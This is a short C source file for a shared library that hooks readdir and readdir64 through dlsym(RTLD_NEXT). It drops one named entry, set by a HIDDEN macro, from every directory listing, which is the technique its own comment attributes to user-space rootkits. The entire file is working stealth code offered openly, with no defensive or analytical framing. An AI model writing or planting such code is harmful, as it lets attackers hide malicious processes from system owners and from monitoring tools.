/* A library that keeps one process out of every directory listing, as user-space rootkits do. */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <string.h>

struct dirent64 *readdir64(DIR *dir) {
  static struct dirent64 *(*next)(DIR *);
  if (next == NULL) next = (struct dirent64 *(*)(DIR *))dlsym(RTLD_NEXT, "readdir64");
  struct dirent64 *entry;
  do entry = next(dir);
  while (entry != NULL && strcmp(entry->d_name, HIDDEN) == 0);
  return entry;
}

struct dirent *readdir(DIR *dir) { return (struct dirent *)readdir64(dir); }
